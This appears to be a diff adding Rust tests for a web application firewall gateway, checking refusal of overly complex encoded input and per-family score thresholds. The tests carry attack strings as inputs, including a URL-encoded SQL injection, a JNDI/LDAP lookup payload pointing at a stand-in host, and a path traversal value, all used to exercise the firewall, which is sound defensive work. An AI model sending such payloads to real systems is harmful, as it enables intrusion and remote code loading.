@@ -68,3 +68,42 @@ fn what_it_does_not_have_is_refused() {
         assert!(output.contains(expected), "{output}");
     }
 }
+
+/// Encodings one inside the other without any evidence of an attack, made to use up whatever looks for one behind them.
+#[test]
+fn what_cannot_be_judged_is_refused_for_a_reason_of_its_own() {
+    let upstream = Upstream::start();
+    let chaff = "location /*x*/|b &amp;amp;<a b=c> http://a.b/ %25 ".repeat(81);
+    let body = serde_json::json!({ "text": chaff }).to_string();
+    let send = |gateway: &Gateway| post(gateway, "application/json", &body);
+    let gateway = guarded(&upstream, "");
+    assert_eq!(refusal(&send(&gateway)), (400, "too_complex".to_owned()));
+    upstream.assert_no_contact();
+    let record = gateway.stop_and_audit().remove(0);
+    assert_eq!((&record["reason_code"], &record["waf.refused_by"]), (&"too_complex".into(), &100_007.into()));
+    let excluded = ", exclude: [{ rule: 100007, target: \"ARGS:json.text\" }]";
+    for keys in [", too_complex: score", ", mode: shadow", excluded] {
+        assert_eq!(send(&guarded(&upstream, keys)).status, 200, "{keys}");
+    }
+    // Honest text of a megabyte is read to its end.
+    let text = "- **Fixed**: `name` is empty (#123); it's O'Neil &amp; sons, see [docs](https://a.example/b?c=%20d)\n";
+    let body = serde_json::json!({ "text": text.repeat(10_000) }).to_string();
+    assert_eq!(post(&guarded(&upstream, ""), "application/json", &body).status, 200);
+}
+
+#[test]
+fn a_family_may_refuse_from_another_score_on() {
+    let upstream = Upstream::start();
+    let sql = "/?id=1%27%20or%20%271%27=%271";
+    let gateway = guarded(&upstream, ", thresholds: { families: { sql: 1000, xpath: 1000 } }");
+    assert_eq!(get(&gateway, sql, "").status, 200);
+    assert_eq!(get(&gateway, "/?x=$%7Bjndi:ldap://x.example/a%7D", "").status, 403);
+    assert_eq!(get(&guarded(&upstream, ""), "/?a=b/../c", "").status, 200);
+    let strict = guarded(&upstream, ", thresholds: { families: { traversal: 3 } }");
+    assert_eq!(get(&strict, "/?a=b/../c", "").status, 403);
+    for (keys, expected) in [("{ sqli: 4 }", "did you mean `sql`?"), ("{ sql: 0 }", "refuses everything")] {
+        let scan = format!("{{ thresholds: {{ families: {keys} }} }}");
+        let output = setup().refuse(&plain(&upstream.url()).policy("scan", scan).text()).stderr;
+        assert!(output.contains(expected), "{output}");
+    }
+}
